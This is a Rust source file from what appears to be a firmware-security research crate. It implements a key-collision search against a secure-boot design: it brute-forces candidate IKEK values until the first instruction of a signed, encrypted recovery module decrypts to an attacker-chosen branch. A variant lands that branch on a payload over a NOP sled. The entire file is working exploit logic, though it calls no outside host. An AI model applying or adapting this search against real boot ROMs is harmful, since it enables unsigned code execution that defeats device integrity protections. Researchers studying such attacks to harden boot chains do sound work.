// Licensed under the Apache-2.0 license

//! Known-key IKEK search: find a wrapped IKEK under which the first word
//! of a signed, encrypted recovery module decrypts to a chosen branch.

use std::ops::RangeInclusive;

use aes::cipher::{BlockDecrypt, BlockEncrypt, KeyInit};
use aes::Aes128;
use serde::Serialize;

use super::AttackError;
use crate::boot::{decode_branch, encode_branch};
use crate::crypto::{sha256, SymmetricKey128};
use crate::firmware::FirmwareModule;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CollisionSearchSpec {
    pub bootrom_key: SymmetricKey128,
    pub wrapped_mek: [u8; 16],
    pub iv: [u8; 16],
    pub first_cipher_block: [u8; 16],
    pub recovery_load_addr: u32,
    pub branch_target: u32,
    /// Leading bits of the instruction word that must match, 0..=32.
    pub match_bits: u32,
    pub rng_seed: u64,
    /// Defaults to `2^(match_bits + 4)`.
    pub max_trials: Option<u64>,
}

impl CollisionSearchSpec {
    pub fn from_recovery(
        recovery: &FirmwareModule,
        bootrom_key: SymmetricKey128,
        branch_target: u32,
        match_bits: u32,
        rng_seed: u64,
    ) -> Self {
        CollisionSearchSpec {
            bootrom_key,
            wrapped_mek: recovery.header.wrapped_mek,
            iv: recovery.header.iv,
            first_cipher_block: recovery.body[..16].try_into().expect("encrypted body holds a block"),
            recovery_load_addr: recovery.header.load_addr,
            branch_target,
            match_bits,
            rng_seed,
            max_trials: None,
        }
    }

    pub fn target_word(&self) -> u32 {
        encode_branch(self.recovery_load_addr, self.branch_target).expect("branch target within reach")
    }

    pub fn budget(&self) -> u64 {
        self.max_trials.unwrap_or(1u64 << (self.match_bits + 4).min(63))
    }

    /// First 32-bit word of the recovery plaintext under `ikek`.
    pub fn first_plain_word(&self, ikek: &SymmetricKey128) -> u32 {
        first_word(&Aes128::new(&ikek.0.into()), self)
    }
}

fn first_word(ikek: &Aes128, spec: &CollisionSearchSpec) -> u32 {
    let mut mek = spec.wrapped_mek;
    ikek.decrypt_block((&mut mek).into());
    let mut block = spec.first_cipher_block;
    Aes128::new(&mek.into()).decrypt_block((&mut block).into());
    let w = [
        block[0] ^ spec.iv[0],
        block[1] ^ spec.iv[1],
        block[2] ^ spec.iv[2],
        block[3] ^ spec.iv[3],
    ];
    u32::from_le_bytes(w)
}

/// `true` when the leading `bits` bits of `a` and `b` agree.
pub fn prefix_matches(a: u32, b: u32, bits: u32) -> bool {
    bits == 0 || (a ^ b) >> (32 - bits.min(32)) == 0
}

/// Reproducible candidate stream: a counter encrypted under a key derived
/// from the seed.
#[derive(Clone)]
pub struct CandidateStream {
    cipher: Aes128,
}

impl CandidateStream {
    pub fn new(rng_seed: u64) -> Self {
        let k = sha256(&[b"ikek-candidates".as_slice(), &rng_seed.to_le_bytes()].concat());
        let key: [u8; 16] = k[..16].try_into().unwrap();
        CandidateStream {
            cipher: Aes128::new(&key.into()),
        }
    }

    pub fn candidate(&self, index: u64) -> [u8; 16] {
        let mut b = (index as u128).to_le_bytes();
        self.cipher.encrypt_block((&mut b).into());
        b
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct CollisionFound {
    #[serde(serialize_with = "hex::serde::serialize")]
    pub ikek: [u8; 16],
    /// 1-based count of candidates tried, including the hit.
    pub trials: u64,
    pub first_word: u32,
    /// Where the decrypted word actually branches, if it is a branch.
    pub branch_target: Option<u32>,
}

impl CollisionFound {
    pub fn key(&self) -> SymmetricKey128 {
        SymmetricKey128::new(self.ikek)
    }
}

fn search_with(spec: &CollisionSearchSpec, budget: u64, accept: impl Fn(u32) -> bool) -> Result<CollisionFound, AttackError> {
    let stream = CandidateStream::new(spec.rng_seed);
    for i in 0..budget {
        let cand = stream.candidate(i);
        let word = first_word(&Aes128::new(&cand.into()), spec);
        if accept(word) {
            return Ok(CollisionFound {
                ikek: cand,
                trials: i + 1,
                first_word: word,
                branch_target: decode_branch(word, spec.recovery_load_addr),
            });
        }
    }
    Err(AttackError::SearchBudgetExceeded { trials: budget })
}

/// First candidate whose plaintext word matches the target branch in its
/// leading `match_bits` bits.
pub fn milanlaunchy_search(spec: &CollisionSearchSpec) -> Result<CollisionFound, AttackError> {
    let target = spec.target_word();
    search_with(spec, spec.budget(), |w| prefix_matches(w, target, spec.match_bits))
}

/// Like [`milanlaunchy_search`], but the decoded branch must also land in
/// `landing`. Used below 32 bits, where the low offset bits are random
/// and the payload is reached over a NOP sled.
pub fn milanlaunchy_search_landing(
    spec: &CollisionSearchSpec,
    landing: RangeInclusive<u32>,
) -> Result<CollisionFound, AttackError> {
    let target = spec.target_word();
    let budget = spec.max_trials.unwrap_or(spec.budget().saturating_mul(4));
    search_with(spec, budget, |w| {
        prefix_matches(w, target, spec.match_bits)
            && decode_branch(w, spec.recovery_load_addr).is_some_and(|t| landing.contains(&t))
    })
}
